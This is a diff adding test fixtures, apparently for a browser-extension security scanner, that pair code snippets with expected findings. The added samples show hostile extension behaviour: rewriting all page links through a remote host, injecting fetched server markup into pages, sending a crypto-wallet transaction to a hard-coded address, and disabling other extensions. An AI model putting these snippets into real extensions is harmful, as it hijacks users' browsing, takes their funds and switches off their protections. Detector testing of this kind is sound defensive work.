@@ -30,6 +30,30 @@ const routes: Readonly<Record<string, Row>> = {
     },
     fact: routed,
   },
+  'as a text or only its part': {
+    content: {
+      'content.js': `for (const link of document.links) link.href = '${far}/?to=' + encodeURIComponent(«String(link)¦link.dataset.id»);`,
+    },
+    fact: routed,
+  },
+  'by what is put before or replaced': {
+    content: {
+      'content.js': `for (const link of document.links) link.href = link.href.replace(/^«¦http:»/, '«${far}/?to=¦https:»');`,
+    },
+    fact: routed,
+  },
+  'by an address that was kept': {
+    content: {
+      'content.js': `for (const link of document.links) { link.dataset.to = «link.href¦link.title»; link.href = '${far}/?to=' + encodeURIComponent(link.dataset.to); }`,
+    },
+    fact: routed,
+  },
+  'within the address of a viewer': {
+    content: {
+      'content.js': `for (const link of document.links) link.href = 'https://docs.google.com/viewer?url=' + encodeURIComponent(«'${far}/?to=' + link.href¦link.href»);`,
+    },
+    fact: routed,
+  },
   'by a start that a server sends, or that nobody sends': {
     content: {
       'content.js': `chrome.storage.local.get('start', ({ start }) => { for (const link of document.links) link.href = start + encodeURIComponent(link.href); });`,
@@ -83,6 +107,34 @@ const decided: Readonly<Record<string, Row>> = {
     },
     fact: finding('server-markup-in-pages'),
   },
+  'markup that is parsed, or a title of it': {
+    content: {
+      'content.js': `fetch('${far}/block').then((answer) => answer.text()).then((text) => { const parsed = new DOMParser().parseFromString(text, 'text/html'); document.body.append(«...parsed.body.children¦parsed.title»); });`,
+    },
+    fact: finding('server-markup-in-pages'),
+  },
+  'a payment as a text': {
+    content: {
+      'content.js': `const wallet = document.createElement('script'); wallet.src = chrome.runtime.getURL('page.js'); document.head.append(wallet);`,
+    },
+    others: {
+      'page.js': `window.ethereum.request(JSON.parse('{"method":"eth_«sendTransaction¦getBalance»","params":[{"to":"0x52908400098527886E0F7030069857D2E4169EE7","value":"0x2386f26fc10000"}]}'));`,
+    },
+    manifest: { web_accessible_resources: [{ resources: ['page.js'], matches: ['<all_urls>'] }] },
+    fact: finding('wallet-payment-made'),
+  },
+  'extensions beside a decoy, or as a page sets it': {
+    ...worker(
+      `chrome.runtime.onStartup.addListener(async () => { const { off } = await chrome.storage.local.get('off'); for (const { id } of await ${others}) if (off?.includes(id)) chrome.management.setEnabled(id, false); });`,
+    ),
+    pages: {
+      'popup.html': {
+        'popup.js': `document.querySelector('#off').onchange = ({ target }) => chrome.storage.local.set({ «theme¦off»: target.value });`,
+      },
+    },
+    ...permitted('management'),
+    fact: finding('other-extensions-disabled-unasked'),
+  },
   'an account for what is as long': {
     content: {
       'content.js': `const own = '${iban}'; document.addEventListener('input', ({ target }) => { if (target.value.length === «own.length¦0») target.value = own; });`,
@@ -106,6 +158,11 @@ const decided: Readonly<Record<string, Row>> = {
     ...worker(
       `${alarm}(async () => { const all = «(await ${others}).filter(({ name }) => /guard/i.test(name))¦(await chrome.storage.sync.get("quiet")).quiet»; for (const { id } of all) chrome.management.setEnabled(id, false); });`,
     ),
+    pages: {
+      'popup.html': {
+        'popup.js': `document.querySelector('#quiet').onchange = ({ target }) => chrome.storage.sync.set({ quiet: target.value.split(' ').map((id) => ({ id })) });`,
+      },
+    },
     ...permitted('management'),
     fact: finding('other-extensions-disabled-unasked'),
   },
